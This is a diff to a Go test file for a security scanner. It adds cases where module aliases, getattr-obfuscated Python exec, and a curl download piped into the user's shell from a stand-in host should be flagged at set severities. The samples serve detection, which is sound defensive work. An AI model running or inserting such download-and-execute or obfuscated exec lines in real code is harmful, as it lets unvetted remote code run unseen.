@@ -158,7 +158,8 @@ func TestPublicSSHFiles(t *testing.T) {
 
 // Calls through a name that holds a module are resolved whatever the
 // member: cp.execSync as much as require("child_process").execSync, and a
-// module loaded with import() as one loaded with require.
+// module loaded with import() as one loaded with require. Other ways to
+// reach the same functions, in the three languages, are listed with them.
 func TestModuleAliasCalls(t *testing.T) {
 	s := newScanner(t, Options{})
 	tests := []struct {
@@ -168,6 +169,9 @@ func TestModuleAliasCalls(t *testing.T) {
 		{"import() alias", "a.mjs", "const cp = await import('child_process');\ncp.spawnSync('ls');\n", RuleChildProcess, SeverityLow},
 		{"import() with a computed name", "a.mjs", "const cp = await import(process.argv[2]);\n", RuleDynamicImport, SeverityLow},
 		{"a detached process with its output ignored", "a.js", "const { spawn } = require('child_process');\nspawn('node', ['x.js'], { detached: true, stdio: 'ignore' }).unref();\n", RuleChildProcess, SeverityHigh},
+		{"a module held in a member", "a.js", "class A { constructor() { this.cp = require('child_process'); } run() { this.cp.exec('id'); } }\n", RuleChildProcess, SeverityLow},
+		{"exec through getattr on builtins", "a.py", "import builtins\ngetattr(builtins, 'ex' + 'ec')('print(1)')\n", RuleHiddenCall, SeverityCritical},
+		{"a download piped into the user's shell", "a.sh", "#!/bin/sh\ncurl -s https://example.invalid/a | ${SHELL:-sh}\n", RuleChainDropper, SeverityCritical},
 		{"a name spelled in escapes", "a.js", "const n = '\\x65\\x76\\x61\\x6c';\n", RuleHiddenCall, SeverityCritical},
 	}
 	for _, tt := range tests {
